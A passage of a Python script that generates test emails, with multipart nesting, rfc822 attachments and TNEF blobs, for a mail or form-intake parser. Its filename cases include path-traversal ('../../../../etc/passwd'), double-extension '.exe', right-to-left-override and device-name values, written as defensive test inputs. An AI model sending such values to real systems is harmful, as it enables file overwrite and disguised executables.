        ("name-rfc2231", "filename*=UTF-8''R%C3%A9f%C3%A9rence.txt", "a name of RFC 2231"),
        ("name-rfc2047", 'filename="=?utf-8?Q?R=C3=A9f.txt?="', "a name of RFC 2047"),
        ("name-raw", 'filename="Réf.txt"', "a name in raw UTF-8"),
        ("name-path", 'filename="../../../../etc/passwd"', "a path as name"),
        ("name-windows-path", 'filename="C:\\\\Users\\\\alex\\\\form.txt"', "a path of Windows as name"),
        ("name-long", 'filename="' + "n" * 3000 + '.txt"', "a name of 3,000 characters"),
        ("name-empty", 'filename=""', "an empty name"),
        ("name-exe", 'filename="form.txt.exe"', "a form that calls itself a program"),
        ("name-rtl", "filename*=UTF-8''form%E2%80%AEtxt.exe", "a name that turns its writing"),
        ("name-device", 'filename="CON"', "the name of a device"),
        ("name-says-pdf", 'filename="form.pdf"', "text that calls itself PDF"),
        ("name-says-zip", 'filename="form.zip"', "text that calls itself ZIP"),
    ]:
        outcome = ("parked", "document-damaged") if file == "name-says-pdf" else ("applied", "-")
        tree(f"{file}.eml", says, lambda u, n=named: multi([hello, file_part("x", text(u).encode(), named=n)]), *outcome)
    book.close()


def nested(inner, depth):
    for n in range(depth):
        inner = multi([inner], boundary=f"n{n}x")
    return inner


def attached(body, depth):
    mail = f"From: a@b.example\nSubject: form\nContent-Type: text/plain; charset=utf-8\n\n{body}"
    for _ in range(depth - 1):
        mail = f"From: a@b.example\nContent-Type: message/rfc822\n\n{mail}"
    return f"Content-Type: message/rfc822\n\n{mail}"


PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def tnef(*files):
    """MS-OXTNEF section 2.1: only what holds files."""
    out = struct.pack("<IH", 0x223E9F78, 0)
    for name, data in files:
        for tag, value in [(0x00069002, b"\0" * 14), (0x00018010, name.encode() + b"\0"), (0x0006800F, data)]:
            out += struct.pack("<BII", 2, tag, len(value)) + value + struct.pack("<H", sum(value) & 0xFFFF)
    return out


if __name__ == "__main__":
    charsets()
    encodings()
    headers()
    trees()
